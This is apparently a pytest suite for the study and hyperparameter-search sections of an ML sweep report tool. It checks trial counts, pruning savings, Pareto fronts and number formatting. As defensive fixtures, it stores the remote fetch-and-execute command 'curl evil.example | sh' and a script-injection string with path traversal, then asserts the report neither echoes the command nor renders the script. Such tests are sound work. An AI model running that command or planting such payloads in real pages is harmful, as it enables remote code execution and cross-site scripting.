import math
from pathlib import Path

import pytest
from pages import report, rows, truncate
from trees import write_run, write_study

from reg_sweep.report.sections.objectives import objective


def write_search(root: Path, **facts: str) -> Path:
    """A study of six trials: three complete, two pruned after one of four epochs, one failed without a record."""
    for n, l1 in enumerate((0.1, 0.01, 0.001)):
        write_run(root / str(n), l1=l1, accuracy=0.8 + 0.05 * n, loss=0.3 - 0.05 * n, n_epochs=4)
    for n in (3, 4):
        run = write_run(root / str(n), l1=1.0 * n, status="pruned", n_epochs=4, predictions=False)
        lines = (run / "metrics.csv").read_text().splitlines(keepends=True)
        (run / "metrics.csv").write_text("".join(lines[:2]))
    trials = [{"params": {"l1": l1}, "values": [0.3 - 0.05 * n]} for n, l1 in enumerate((0.1, 0.01, 0.001))]
    trials += [{"params": {"l1": 1.0 * n}, "state": "pruned", "values": None, "steps": [[1, 2.0]]} for n in (3, 4)]
    trials += [{"params": {"l1": 0.5}, "state": "failed", "values": None, "message": "ValueError: <i>no</i>"}]
    return write_study(root, trials, importances={"l1": 1.0}, **facts)


def test_a_study_is_told_in_numbers(tmp_path):
    write_search(tmp_path / "search")
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "6 trials: 3 complete, 2 pruned, 1 failed. Best is trial 2 (l1 0.001): val loss 0.2000." in page.text
    assert (
        "The trials took 14 epochs; had none been pruned, they would have taken 20: pruning saved 6 of them, 30%."
        in page.text
    )
    assert "Trial 5 failed: ValueError: <i>no</i>" in page.text
    assert "l1 100%" in page.text
    assert page.ids.count("d1-studies") == 1
    assert len(page.ids) == len(set(page.ids))


@pytest.mark.slow
def test_a_study_has_its_figures_and_its_trials_lead_to_their_folders(tmp_path):
    write_search(tmp_path / "search")
    page, _ = report(tmp_path, out=tmp_path / "report", is_drawn=True)
    assert {p.stem for p in (tmp_path / "report").glob("trials-*.svg")} == {"trials-1-history", "trials-1-l1"}
    for address in page.addresses:
        assert address.startswith(("#", "data:")) or (tmp_path / "report" / address).exists(), address
    assert page.addresses.count("../search/2/") == 2  # among the best trials, and among the runs


@pytest.mark.slow
def test_arms_that_a_search_chose_are_called_optimistic_and_how_to_judge_them_is_told(tmp_path):
    write_search(tmp_path / "search", command="curl evil.example | sh")
    page, verdict = report(tmp_path, out=tmp_path / "report")
    assert verdict.startswith("Only a search so far (5 trials): trials explore, and nothing is judged by them.")
    command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 -m"
    assert verdict.endswith(f"Judge what was found on seeds that chose nothing: {command}")
    assert page.text.count(command) == 2  # in the verdict, and beside the study
    assert "The best of many tries is partly luck: its value here is optimistic." in page.text
    assert rows(tmp_path / "report" / "summary.csv") == []
    assert len(rows(tmp_path / "report" / "runs.csv")) == 5


@pytest.mark.slow
def test_a_search_beside_its_confirmation_is_a_study_and_the_confirmation_is_judged(tmp_path):
    write_search(tmp_path / "search")
    for seed in (2, 3, 4):
        write_run(tmp_path / "final" / f"a{seed}", seed=seed, accuracy=0.9 + 0.01 * seed, n_epochs=4)
        write_run(tmp_path / "final" / f"b{seed}", seed=seed, l1=0.001, accuracy=0.85 + 0.012 * seed, n_epochs=4)
    page, verdict = report(tmp_path, out=tmp_path / "report")
    assert verdict.startswith("No arm beats the baseline, bn, on val. The next, bn · L1 0.001,")
    assert "5 trials of a search are not judged." in page.text
    assert {r["arm"]: r["n_seeds"] for r in rows(tmp_path / "report" / "summary.csv")} == {
        "bn": "3",
        "bn · L1 0.001": "3",
    }
    names = "The study search names another arm best, bn · L1 0.001: by val loss of a single run, trial 2."
    assert f"{names} The verdict ranks by val accuracy paired over 3 seeds" in page.text.replace("\u00a0", " ")


def test_the_best_trials_command_is_told_with_seeds_that_chose_nothing_and_arms_without_the_lambdas(tmp_path):
    best, worse = {"l1": 1.67e-06, "l2": 0.0, "norm": "gbn"}, {"l1": 0.1, "l2": 0.01, "norm": "bn"}
    trials = [{"params": worse, "values": [0.5]}, {"params": best, "values": [0.1]}]
    for n, t in enumerate(trials):
        write_run(tmp_path / "it" / str(n), seed=6 + n, **t["params"])
    write_study(tmp_path / "it", trials, command="curl evil.example | sh")
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "reg_sweep.train norm=gbn l1=0,1.67e-06 l2=0 epochs=3 seed=8,9,10 -m " in page.text
    assert "curl" not in page.text


def test_a_study_that_varied_the_seed_is_no_search(tmp_path):
    trials = [{"params": {"l1": l1, "seed": seed}} for l1 in (0.1, 0.01) for seed in (1, 2)]
    for n, t in enumerate(trials):
        write_run(tmp_path / "it" / str(n), **t["params"])
    write_study(tmp_path / "it", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "4 trials: 4 complete" in page.text
    assert "optimistic." not in page.text
    assert "one seed each" not in page.text


def test_pruned_arms_of_a_grid_are_counted_not_listed(tmp_path):
    write_search(tmp_path / "grid", kind="grid")
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "Not in the table: 2 arms that a study pruned" in page.text
    assert len(rows(tmp_path / "report" / "summary.csv")) == 5
    lines = (tmp_path / "report" / "summary.md").read_text().splitlines()
    assert sum(line.startswith("| bn") for line in lines) == 3


@pytest.mark.slow
def test_two_objectives_have_a_front_whose_every_trial_can_be_run_again(tmp_path):
    values = [[0.1, 0.1], [0.2, 0.5], [0.3, 0.4]]
    objective = ["val_loss", "zero_share"]
    for n in range(3):
        write_run(tmp_path / "it" / str(n), l1=0.1 * n, objective=objective)
    write_study(
        tmp_path / "it",
        [{"values": v, "params": {"l1": 0.1 * n}} for n, v in enumerate(values)],
        directions=["minimize", "maximize"],
    )
    page, _ = report(tmp_path, out=tmp_path / "report", is_drawn=True)
    assert "2 trials are on the Pareto front" in page.text
    assert "l1=0,0.1 l2=0 epochs=3 seed=2,3,4 -m" in page.text
    assert "Trial val loss zero share, % l1 epochs trial 0 0.1000 10.00" in page.text
    assert (tmp_path / "report" / "trials-1-front.svg").exists()


@pytest.mark.slow
def test_a_study_whose_runs_never_saw_data_is_still_shown(tmp_path):
    write_run(tmp_path / "other" / "0")
    write_study(tmp_path / "lost", [{"state": "failed", "values": None, "directory": None, "message": "no disk"}])
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "1 trial: 1 failed." in page.text
    assert "no disk" in page.text
    assert "d1-studies" not in page.ids


@pytest.mark.slow
def test_studies_of_different_data_stand_with_their_own(tmp_path):
    write_search(tmp_path / "a")
    for n in range(2):
        write_run(tmp_path / "b" / str(n), l1=0.1 * n, data={"fingerprint": "other"})
    write_study(tmp_path / "b", [{"params": {"l1": 0.1 * n}} for n in range(2)])
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert page.ids.index("d1-studies") < page.ids.index("d2-arms") < page.ids.index("d2-studies")


@pytest.mark.slow
def test_a_damaged_study_is_named_and_its_runs_are_reported(tmp_path):
    path = write_search(tmp_path / "search")
    truncate(path)
    page, verdict = report(tmp_path, out=tmp_path / "report")
    assert "study.json: not a readable study" in page.text
    assert verdict.startswith("One seed")
    assert "d1-studies" not in page.ids


@pytest.mark.slow
def test_trials_of_a_study_that_is_lost_are_no_arms_unless_it_varied_seeds(tmp_path):
    for n in range(3):
        trial = {"study": "lost", "number": n, "params": {"l1": 0.1 * n}}
        write_run(tmp_path / "search" / str(n), l1=0.1 * n, trial=trial)
        trial = {"study": "lost", "number": n, "params": {"seed": n}}
        write_run(tmp_path / "grid" / str(n), l2=0.1, seed=n, trial=trial)
    report(tmp_path, out=tmp_path / "report")
    assert [r["arm"] for r in rows(tmp_path / "report" / "summary.csv")] == ["bn · L2 0.1"]


@pytest.mark.slow
def test_html_in_a_study_stays_text(tmp_path):
    evil = "<script>alert(1)</script>"
    for n in range(2):
        write_run(tmp_path / "it" / str(n), l1=0.1 * n)
    trials = [{"params": {evil: f"{evil}{n}", f"../{evil}": 0.1 * n}} for n in range(2)]
    write_study(tmp_path / "it", trials, study=evil, importances={evil: 1.0})
    page, _ = report(tmp_path, out=tmp_path / "report", is_drawn=True)
    assert page.tags.count("script") == 1
    assert evil in page.text
    assert all(p.parent == tmp_path / "report" for p in tmp_path.rglob("trials-*"))


@pytest.mark.parametrize(
    ("name", "value", "unit", "text"),
    [
        ("val_loss", 0.123456, "val loss", "0.1235"),
        ("val_accuracy", 0.9876, "val accuracy, %", "98.76"),
        ("zero_share", 0.5, "zero share, %", "50.00"),
        ("energy", 12.0, "energy", "12.00"),
    ],
)
def test_an_objective_that_is_a_share_is_told_in_percent(name, value, unit, text):
    assert objective(name).unit == unit
    assert objective(name).text(value) == text
    assert objective(name).text(math.nan) == "not finite"


def test_a_study_that_varied_the_seed_names_the_best_arm_by_its_mean(tmp_path):
    values = {("bn", 1): 0.1, ("bn", 2): 0.9, ("gbn", 1): 0.4, ("gbn", 2): 0.4}
    trials = [{"params": {"norm": norm, "seed": seed}, "values": [v]} for (norm, seed), v in values.items()]
    for n, (norm, seed) in enumerate(values):
        write_run(tmp_path / "grid" / str(n), norm=norm, seed=seed)
    write_study(tmp_path / "grid", trials, kind="grid", replicates=["seed"])
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert "Best is norm gbn, by the mean over seed of trials 2, 3: val loss 0.4000." in page.text


def test_a_trial_that_broke_a_constraint_is_not_called_the_best(tmp_path):
    trials = [{"params": {"l1": 0.1}, "values": [0.1], "constraints": {"size": 2.0}}]
    trials += [{"params": {"l1": 0.2}, "values": [0.2], "constraints": {"size": 0.0}}]
    for n in range(2):
        write_run(tmp_path / "search" / str(n), l1=0.1 * (n + 1))
    write_study(tmp_path / "search", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert (
        "Best is trial 1 (l1 0.2): val loss 0.2000. 1 complete trial broke a constraint, and cannot be best."
        in page.text
    )


def test_parameters_of_any_name_have_pictures_of_their_own(tmp_path):
    names = ["x" * 300, "x" * 299, "字" * 200, "a.b", "a-b", "history"]
    trials = [{"params": {name: 0.1 * n + i for i, name in enumerate(names)}, "values": [0.1 * n]} for n in range(3)]
    write_run(tmp_path / "search" / "0")
    write_study(tmp_path / "search", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert len(page.ids) == len(set(page.ids))
    assert len(list((tmp_path / "report").glob("trials-1-*.svg"))) == 7


def test_a_search_of_both_lambdas_is_shown_over_both_with_the_norm_as_shape(tmp_path):
    norms = ("bn", "gbn")
    trials = [
        {"params": {"l1": 10.0**-n, "l2": 10.0 ** -(n * 3 % 7), "norm": norms[n % 2]}, "values": [0.1 * n]}
        for n in range(1, 7)
    ]
    write_run(tmp_path / "search" / "0")
    write_study(tmp_path / "search", trials)
    page, _ = report(tmp_path, out=tmp_path / "report")
    assert 'aria-label="search: l1 and l2. val loss of 6 complete trials, 0 pruned; the best, 0.1000,' in page.source
    assert "Darker is better; the shape is the norm." in page.text
    assert "No surface is drawn: too few complete trials." in page.text


def test_values_beside_each_other_have_the_digits_that_tell_them_apart():
    loss, share = objective("val_loss"), objective("val_accuracy")
    assert loss.texts([2.30201, 2.30249, 0.5]) == ["2.3020", "2.3025", "0.50000"]
    assert loss.texts([2.302, 2.302]) == ["2.302", "2.302"]
    assert share.texts([0.98761, 0.98764, math.nan]) == ["98.761", "98.764", "not finite"]
